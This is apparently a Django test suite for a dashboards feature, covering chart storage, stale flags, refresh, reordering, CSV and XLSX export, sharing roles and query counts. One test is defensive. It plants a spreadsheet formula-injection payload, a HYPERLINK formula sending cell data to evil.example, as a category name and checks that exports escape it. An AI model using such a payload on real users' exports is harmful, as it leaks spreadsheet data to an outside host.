"""Dashboards: stored chart documents, stale flags, refresh, order, export and sharing rules."""

import csv
import datetime
import io
from unittest import mock

from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from valar.core.metrics import run
from valar.core.policy import Role
from valar.core.testing import ApiTestCase
from valar.core.testing.resources import TenantFixtureMixin
from valar.finance.models import Category, Kind
from valar.insights.models import Chart, Dashboard
from valar.insights.tests import support
from valar.organizations.models import Membership
from valar.tasks.models import Task

URL = support.DASHBOARDS
Q1 = {"start_date": "2025-01-01", "end_date": "2025-03-31"}
INCOME = {"source": "income", "interval": "month", "group_by": "category", **Q1}
TASKS = {"source": "tasks", "measure": "count", "interval": "month", **Q1}


def d(text: str) -> datetime.date:
    """A date from ``YYYY-MM-DD``."""
    return datetime.date.fromisoformat(text)


def without_time(document: dict) -> dict:
    """A document without its generation instant."""
    return {key: value for key, value in document.items() if key != "generated_at"}


class DashboardFixtureMixin(TenantFixtureMixin):
    """A manager owns dashboards; extra members play viewer, editor, teammate and outsider.

    They are managers so that finance figures are the organization's (workers read only their
    own entries: ``OwnFiguresChartTests``).
    """

    module = "insights"

    def setUp(self) -> None:
        """Entries and tasks in Q1 2025, and members with every module."""
        super().setUp()
        for role in (Role.MANAGER, Role.WORKER, Role.BASIC):
            support.grant(self.org, self.users[role], support.ALL_MODULES)
        self.owner, self.owner_client = self.member("owner@org.test")
        self.viewer, self.viewer_client = self.member("viewer@org.test")
        self.editor, self.editor_client = self.member("editor@org.test")
        self.mate, self.mate_client = self.member("mate@org.test")
        self.outsider, self.outsider_client = self.member("outsider@org.test")
        self.crew = support.team(self.org, "Crew", members=[self.mate])
        self.sales = support.category(self.org, "Sales", Kind.INCOME)
        self.fees = support.category(self.org, "Fees", Kind.INCOME)
        support.entry(self.org, self.sales, "100.00", d("2025-01-10"))
        support.entry(self.org, self.sales, "250.50", d("2025-03-10"))
        support.entry(self.org, self.fees, "40.00", d("2025-02-10"))
        support.task(self.org, status=Task.Status.TODO)

    def member(self, email: str, role: str = Role.MANAGER, modules=None):
        """Another member of ``org`` and a token client for them."""
        user = self.make_user(email)
        Membership.objects.create(
            organization=self.org,
            user=user,
            role=role,
            modules=support.ALL_MODULES if modules is None else modules,
        )
        return user, self.token_client(user)

    def dashboard(self, client=None, title: str = "Board") -> dict:
        """A dashboard created through the API."""
        response = (client or self.owner_client).post(
            URL, {"title": title, "description": "Figures"}, format="json"
        )
        self.assertEqual(response.status_code, 201, response.content)
        return response.json()

    def add_chart(self, board: dict, query=None, client=None, title="Chart", **extra):
        """The response of adding a chart to ``board``."""
        data = {"title": title, "chart_type": "bar", "query": query or INCOME, **extra}
        return (client or self.owner_client).post(
            f"{URL}{board['id']}/charts/", data, format="json"
        )

    def chart(self, board: dict, query=None, client=None, **extra) -> dict:
        """A chart added to ``board`` (201 checked)."""
        response = self.add_chart(board, query, client, **extra)
        self.assertEqual(response.status_code, 201, response.content)
        return response.json()

    def share(self, board: dict, shares: list[dict], client=None, **extra):
        """Replace the board's shares."""
        return (client or self.owner_client).put(
            f"{URL}{board['id']}/share/", {"shares": shares, **extra}, format="json"
        )

    def detail(self, board: dict, client=None) -> dict:
        """The board as ``client`` reads it (200 checked)."""
        response = (client or self.owner_client).get(f"{URL}{board['id']}/")
        self.assertEqual(response.status_code, 200, response.content)
        return response.json()


class DashboardChartTests(DashboardFixtureMixin, ApiTestCase):
    """Creating dashboards and charts; stored documents; stale flags; refresh; order; export."""

    def test_creating_a_dashboard_makes_the_caller_its_owner(self):
        board = self.dashboard()
        self.assertEqual(board["owner"], str(self.owner.pk))
        self.assertEqual((board["title"], board["description"]), ("Board", "Figures"))
        self.assertEqual((board["visibility"], board["charts"]), ("private", []))
        stored = Dashboard.objects.get(pk=board["id"])
        self.assertEqual(stored.organization, self.org)

    def test_a_new_chart_stores_the_document_of_a_fresh_engine_run(self):
        board = self.dashboard()
        body = self.chart(board, title="Income")
        fresh = run(organization=self.org, spec=INCOME, use_cache=False)
        self.assertEqual(without_time(body["document"]), without_time(fresh))
        stored = Chart.objects.get(pk=body["id"])
        self.assertEqual(stored.document, body["document"])
        self.assertEqual(stored.query, fresh["query"])
        self.assertEqual(body["query"], fresh["query"])
        self.assertEqual(
            [(s["name"], s["data"]) for s in body["document"]["series"]],
            [("Fees", ["0.00", "40.00", "0.00"]), ("Sales", ["100.00", "0.00", "250.50"])],
        )
        self.assertFalse(body["stale"])
        self.assertEqual(self.detail(board)["charts"], [body])

    def test_charts_get_increasing_positions(self):
        board = self.dashboard()
        positions = [self.chart(board, title=f"C{i}")["position"] for i in range(3)]
        self.assertEqual(positions, [0, 1, 2])

    def test_reading_never_recomputes_a_chart(self):
        board = self.dashboard()
        chart = self.chart(board)
        self.chart(board, TASKS)
        cache.clear()
        with mock.patch("valar.core.metrics.engine._compute") as compute:
            body = self.detail(board)
            charts = self.owner_client.get(f"{URL}{board['id']}/charts/").json()
            one = self.owner_client.get(f"{URL}{board['id']}/charts/{chart['id']}/").json()
            listed = self.owner_client.get(URL).json()
        compute.assert_not_called()
        self.assertEqual(body["charts"][0]["document"], chart["document"])
        self.assertEqual(charts, body["charts"])
        self.assertEqual(listed["results"][0]["charts"], body["charts"])
        # A cache that lost the versions marks every chart stale; the stored data is unchanged.
        self.assertTrue(one.pop("stale"))
        self.assertEqual(one, {k: v for k, v in chart.items() if k != "stale"})

    def test_a_ledger_write_makes_finance_charts_stale_and_not_the_others(self):
        board = self.dashboard()
        self.chart(board)
        self.chart(board, TASKS)
        self.assertEqual([c["stale"] for c in self.detail(board)["charts"]], [False, False])
        support.entry(self.org, self.sales, "1.00", d("2025-03-11"))
        self.assertEqual([c["stale"] for c in self.detail(board)["charts"]], [True, False])

    def test_refreshing_a_chart_updates_its_document_and_clears_stale(self):
        board = self.dashboard()
        chart = self.chart(board)
        support.entry(self.org, self.sales, "1.00", d("2025-03-11"))
        url = f"{URL}{board['id']}/charts/{chart['id']}/refresh/"
        response = self.owner_client.post(url)
        self.assertEqual(response.status_code, 200, response.content)
        body = response.json()
        self.assertFalse(body["stale"])
        self.assertEqual(body["document"]["totals"]["Sales"], "351.50")
        fresh = run(organization=self.org, spec=INCOME, use_cache=False)
        self.assertEqual(without_time(body["document"]), without_time(fresh))
        self.assertEqual(Chart.objects.get(pk=chart["id"]).document, body["document"])
        self.assertGreater(body["computed_at"], chart["computed_at"])
        self.assertFalse(self.detail(board)["charts"][0]["stale"])

    def test_refreshing_a_dashboard_recomputes_every_chart(self):
        board = self.dashboard()
        self.chart(board)
        self.chart(board, TASKS)
        support.entry(self.org, self.fees, "2.00", d("2025-02-11"))
        support.task(self.org, status=Task.Status.TODO)
        response = self.owner_client.post(f"{URL}{board['id']}/refresh/")
        self.assertEqual(response.status_code, 200, response.content)
        charts = response.json()["charts"]
        self.assertEqual([c["stale"] for c in charts], [False, False])
        self.assertEqual(charts[0]["document"]["totals"]["Fees"], "42.00")
        self.assertEqual(charts[1]["document"]["totals"], {"tasks": 0})
        self.assertEqual(
            without_time(charts[1]["document"]),
            without_time(run(organization=self.org, spec=TASKS, use_cache=False)),
        )
        self.assertEqual(self.detail(board)["charts"], charts)

    def test_charts_are_reordered_by_patching_their_position(self):
        board = self.dashboard()
        first, second, third = (self.chart(board, title=t) for t in ("A", "B", "C"))
        url = f"{URL}{board['id']}/charts/{first['id']}/"
        response = self.owner_client.patch(url, {"position": 5}, format="json")
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(response.json()["position"], 5)
        titles = [c["title"] for c in self.detail(board)["charts"]]
        self.assertEqual(titles, ["B", "C", "A"])
        self.assertEqual(first["document"], response.json()["document"])

    def test_patching_a_query_recomputes_the_chart(self):
        board = self.dashboard()
        chart = self.chart(board)
        url = f"{URL}{board['id']}/charts/{chart['id']}/"
        response = self.owner_client.patch(url, {"query": TASKS}, format="json")
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(response.json()["document"]["totals"], {"tasks": 0})
        self.assertEqual(Chart.objects.get(pk=chart["id"]).query["source"], "tasks")

    def test_removing_a_chart_deletes_it(self):
        board = self.dashboard()
        keep, drop = self.chart(board, title="Keep"), self.chart(board, title="Drop")
        response = self.owner_client.delete(f"{URL}{board['id']}/charts/{drop['id']}/")
        self.assertEqual(response.status_code, 204)
        self.assertEqual([c["id"] for c in self.detail(board)["charts"]], [keep["id"]])
        self.assertFalse(Chart.objects.filter(pk=drop["id"]).exists())
        response = self.owner_client.get(f"{URL}{board['id']}/charts/{drop['id']}/")
        self.assert_problem(response, 404)

    def test_a_chart_of_another_dashboard_is_404_under_this_one(self):
        board, other = self.dashboard(), self.dashboard(title="Other")
        chart = self.chart(other)
        response = self.owner_client.get(f"{URL}{board['id']}/charts/{chart['id']}/")
        self.assert_problem(response, 404)

    def test_a_chart_exports_as_csv(self):
        board = self.dashboard()
        chart = self.chart(board)
        response = self.owner_client.get(
            f"{URL}{board['id']}/charts/{chart['id']}/export/", {"format": "csv"}
        )
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "text/csv")
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(
            rows,
            [
                ["label", "Fees", "Sales"],
                ["2025-01", "0.00", "100.00"],
                ["2025-02", "40.00", "0.00"],
                ["2025-03", "0.00", "250.50"],
            ],
        )

    def test_a_chart_exports_as_xlsx(self):
        board = self.dashboard()
        chart = self.chart(board, TASKS)
        response = self.owner_client.get(
            f"{URL}{board['id']}/charts/{chart['id']}/export/", {"format": "xlsx"}
        )
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        self.assertEqual(rows, [["label", "tasks"], ["2025-01", 0], ["2025-02", 0], ["2025-03", 0]])

    def test_series_names_are_escaped_in_the_export_headers(self):
        # Category names are the series names of the chart: users control them.
        name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
        Category.objects.filter(organization=self.org, name="Fees").update(name=name)
        board = self.dashboard()
        chart = self.chart(board)
        url = f"{URL}{board['id']}/charts/{chart['id']}/export/"
        text = b"".join(self.owner_client.get(url, {"format": "csv"}).streaming_content).decode()
        header = next(csv.reader(io.StringIO(text)))
        self.assertEqual(header, ["label", "'" + name, "Sales"])
        response = self.owner_client.get(url, {"format": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = next(sheet.iter_rows())
        self.assertEqual([cell.value for cell in cells], ["label", "'" + name, "Sales"])
        self.assertEqual({cell.data_type for cell in cells}, {"s"})

    def test_an_unknown_export_format_is_400(self):
        board = self.dashboard()
        chart = self.chart(board)
        response = self.owner_client.get(
            f"{URL}{board['id']}/charts/{chart['id']}/export/", {"format": "pdf"}
        )
        self.assert_problem(response, 400, field="format")

    def test_invalid_chart_specs_are_400_and_store_nothing(self):
        board = self.dashboard()
        cases = [
            ({"query": {"source": "nope", **Q1}}, "source"),
            ({"query": {"source": "tasks", "measure": "sum", **Q1}}, "measure"),
            ({"query": {"source": "income", "group_by": "stage", **Q1}}, "group_by"),
            ({"query": {"source": "income", "start_date": "soon", "end_date": "later"}}, None),
            ({"query": {**INCOME, "end_date": "2024-01-01"}}, "end_date"),
            ({"chart_type": "radar"}, "chart_type"),
            ({"title": ""}, "title"),
        ]
        for change, field in cases:
            with self.subTest(change=change):
                response = self.add_chart(board, **change)
                self.assert_problem(response, 400, field=field)
        response = self.owner_client.post(
            f"{URL}{board['id']}/charts/", {"title": "No query", "chart_type": "bar"}, format="json"
        )
        self.assert_problem(response, 400, field="query")
        self.assertFalse(Chart.objects.exists())

    def test_a_chart_over_a_module_the_creator_lacks_is_refused(self):
        support.grant(self.org, self.owner, ["insights", "tasks"])
        board = self.dashboard()
        response = self.add_chart(board, INCOME)
        self.assert_problem(response, 400, code="module_required", field="query")
        response = self.add_chart(board, {"source": "deals", **Q1})
        self.assert_problem(response, 400, code="module_required")
        self.assertEqual(self.add_chart(board, TASKS).status_code, 201)
        self.assertEqual(Chart.objects.count(), 1)

    def test_a_member_who_may_not_create_in_insights_cannot_make_a_dashboard(self):
        response = self.clients[Role.BASIC].post(URL, {"title": "Mine"}, format="json")
        self.assert_problem(response, 403)


class DashboardSharingTests(DashboardFixtureMixin, ApiTestCase):
    """Who sees, changes, shares and deletes a dashboard."""

    def setUp(self) -> None:
        """A private dashboard of the worker with one income chart."""
        super().setUp()
        self.board = self.dashboard()
        self.income = self.chart(self.board)
        self.url = f"{URL}{self.board['id']}/"

    def ids(self, client) -> list[str]:
        """The dashboards ``client`` lists."""
        response = client.get(URL)
        self.assertEqual(response.status_code, 200, response.content)
        return [row["id"] for row in response.json()["results"]]

    def test_the_owner_and_the_admin_see_a_private_dashboard(self):
        self.assertEqual(self.detail(self.board)["charts"], [self.income])
        self.assertEqual(self.detail(self.board, self.clients[Role.ADMIN])["id"], self.board["id"])
        self.assertIn(self.board["id"], self.ids(self.owner_client))
        self.assertIn(self.board["id"], self.ids(self.clients[Role.ADMIN]))

    def test_an_outsider_of_the_same_organization_gets_404(self):
        for client in (self.outsider_client, self.clients[Role.MANAGER]):
            self.assert_problem(client.get(self.url), 404)
            self.assert_problem(client.get(f"{self.url}charts/"), 404)
            self.assert_problem(client.get(f"{self.url}charts/{self.income['id']}/"), 404)
            self.assert_problem(client.patch(self.url, {"title": "X"}, format="json"), 404)
            self.assert_problem(client.delete(self.url), 404)
            self.assertNotIn(self.board["id"], self.ids(client))
        self.assert_problem(self.add_chart(self.board, client=self.outsider_client), 404)

    def test_another_organization_gets_404(self):
        client = self.other_client
        self.assert_problem(client.get(self.url), 404)
        self.assert_problem(client.delete(self.url), 404)
        self.assert_problem(self.share(self.board, [], client=client), 404)
        self.assert_problem(client.post(f"{self.url}refresh/"), 404)
        self.assertNotIn(self.board["id"], self.ids(client))
        self.assertTrue(Dashboard.objects.filter(pk=self.board["id"]).exists())

    def test_a_shared_viewer_reads_but_cannot_change(self):
        response = self.share(self.board, [{"user": str(self.viewer.pk), "role": "viewer"}])
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(
            response.json(),
            {
                "shares": [{"user": str(self.viewer.pk), "team": None, "role": "viewer"}],
                "visibility": "private",
            },
        )
        client = self.viewer_client
        self.assertEqual(self.detail(self.board, client)["charts"], [self.income])
        self.assertIn(self.board["id"], self.ids(client))
        chart_url = f"{self.url}charts/{self.income['id']}/"
        self.assert_problem(client.patch(self.url, {"title": "Mine"}, format="json"), 403)
        self.assert_problem(self.add_chart(self.board, TASKS, client), 403)
        self.assert_problem(client.patch(chart_url, {"position": 3}, format="json"), 403)
        self.assert_problem(client.delete(chart_url), 403)
        self.assert_problem(client.post(f"{chart_url}refresh/"), 403)
        self.assert_problem(client.post(f"{self.url}refresh/"), 403)
        self.assert_problem(client.delete(self.url), 403)
        self.assertEqual(Dashboard.objects.get(pk=self.board["id"]).title, "Board")
        self.assertEqual(Chart.objects.count(), 1)
        export = client.get(f"{chart_url}export/", {"format": "csv"})
        self.assertEqual(export.status_code, 200)

    def test_a_member_of_a_shared_team_reads_it(self):
        self.assert_problem(self.mate_client.get(self.url), 404)
        response = self.share(self.board, [{"team": str(self.crew.pk)}])
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(response.json()["shares"][0]["role"], "viewer")
        self.assertEqual(self.detail(self.board, self.mate_client)["id"], self.board["id"])
        self.assertIn(self.board["id"], self.ids(self.mate_client))
        self.assert_problem(self.add_chart(self.board, TASKS, self.mate_client), 403)
        self.assert_problem(self.outsider_client.get(self.url), 404)

    def test_an_editor_adds_charts_and_edits_but_cannot_share_delete_or_open_it(self):
        self.share(self.board, [{"user": str(self.editor.pk), "role": "editor"}])
        client = self.editor_client
        chart = self.chart(self.board, TASKS, client)
        self.assertEqual(Chart.objects.get(pk=chart["id"]).created_by, self.editor)
        response = client.patch(self.url, {"title": "Renamed"}, format="json")
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(response.json()["title"], "Renamed")
        self.assertEqual(client.post(f"{self.url}refresh/").status_code, 200)
        self.assert_problem(self.share(self.board, [], client=client), 403)
        self.assert_problem(
            client.patch(self.url, {"visibility": "organization"}, format="json"), 403
        )
        self.assert_problem(client.delete(self.url), 403)
        board = Dashboard.objects.get(pk=self.board["id"])
        self.assertEqual((board.visibility, board.shares.count()), ("private", 1))

    def test_a_team_shared_as_editor_lets_its_members_edit(self):
        self.share(self.board, [{"team": str(self.crew.pk), "role": "editor"}])
        self.chart(self.board, TASKS, self.mate_client)
        self.assertEqual(Chart.objects.filter(dashboard_id=self.board["id"]).count(), 2)

    def test_organization_visibility_lets_every_member_read(self):
        self.assert_problem(self.outsider_client.get(self.url), 404)
        response = self.share(self.board, [], visibility="organization")
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(response.json(), {"shares": [], "visibility": "organization"})
        for client in (self.outsider_client, self.clients[Role.MANAGER], self.mate_client):
            self.assertEqual(self.detail(self.board, client)["visibility"], "organization")
        self.assert_problem(self.add_chart(self.board, TASKS, self.outsider_client), 403)
        self.assert_problem(self.other_client.get(self.url), 404)

    def test_the_owner_changes_visibility_by_patch(self):
        response = self.owner_client.patch(self.url, {"visibility": "organization"}, format="json")
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(self.detail(self.board, self.outsider_client)["id"], self.board["id"])

    def test_sharing_replaces_the_previous_shares(self):
        self.share(self.board, [{"user": str(self.viewer.pk)}])
        self.share(self.board, [{"user": str(self.editor.pk)}])
        self.assert_problem(self.viewer_client.get(self.url), 404)
        self.assertEqual(self.detail(self.board, self.editor_client)["id"], self.board["id"])

    def test_an_admin_shares_and_deletes_a_dashboard_they_do_not_own(self):
        admin = self.clients[Role.ADMIN]
        response = self.share(self.board, [{"user": str(self.viewer.pk)}], client=admin)
        self.assertEqual(response.status_code, 200, response.content)
        self.assertEqual(self.detail(self.board, self.viewer_client)["id"], self.board["id"])
        self.assertEqual(admin.delete(self.url).status_code, 204)
        self.assertFalse(Dashboard.objects.filter(pk=self.board["id"]).exists())
        self.assertFalse(Chart.objects.exists())

    def test_the_owner_deletes_their_dashboard(self):
        self.assertEqual(self.owner_client.delete(self.url).status_code, 204)
        self.assert_problem(self.owner_client.get(self.url), 404)

    def test_sharing_with_people_or_teams_of_another_organization_is_400(self):
        foreign_team = support.team(self.other, "Foreign")
        for share, field in (
            ({"user": str(self.other_admin.pk)}, "shares.0.user"),
            ({"team": str(foreign_team.pk)}, "shares.0.team"),
            ({}, "shares.0.non_field_errors"),
            ({"user": str(self.viewer.pk), "team": str(self.crew.pk)}, "shares.0.non_field_errors"),
            ({"user": str(self.viewer.pk), "role": "owner"}, "shares.0.role"),
        ):
            with self.subTest(share=share):
                self.assert_problem(self.share(self.board, [share]), 400, field=field)
        self.assert_problem(
            self.share(self.board, [], visibility="public"), 400, field="visibility"
        )
        self.assertEqual(Dashboard.objects.get(pk=self.board["id"]).shares.count(), 0)

    def test_a_viewer_without_the_module_does_not_see_its_charts(self):
        tasks = self.chart(self.board, TASKS)
        support.grant(self.org, self.viewer, ["insights", "tasks"])
        self.share(self.board, [{"user": str(self.viewer.pk)}])
        body = self.detail(self.board, self.viewer_client)
        self.assertEqual([c["id"] for c in body["charts"]], [tasks["id"]])
        charts = self.viewer_client.get(f"{self.url}charts/").json()
        self.assertEqual([c["id"] for c in charts], [tasks["id"]])
        self.assertEqual(len(self.detail(self.board)["charts"]), 2)


class DashboardQueryCountTests(DashboardFixtureMixin, ApiTestCase):
    """Reading a dashboard costs the same number of queries for 2 charts and for 10."""

    #: The token, the dashboard, its charts (membership and versions come from the cache).
    QUERIES = 3

    def queries(self, board: dict) -> tuple[int, dict]:
        """Queries of one detail read (after a warm-up read)."""
        self.owner_client.get(f"{URL}{board['id']}/")
        with CaptureQueriesContext(connection) as captured:
            body = self.detail(board)
        return len(captured), body

    def test_a_dashboard_reads_in_a_constant_number_of_queries(self):
        board = self.dashboard()
        for index in range(2):
            self.chart(board, INCOME if index % 2 else TASKS, title=f"C{index}")
        few, body = self.queries(board)
        self.assertEqual(len(body["charts"]), 2)
        for index in range(2, 10):
            self.chart(board, INCOME if index % 2 else TASKS, title=f"C{index}")
        many, body = self.queries(board)
        self.assertEqual(len(body["charts"]), 10)
        self.assertEqual(few, many)
        self.assertEqual(many, self.QUERIES)
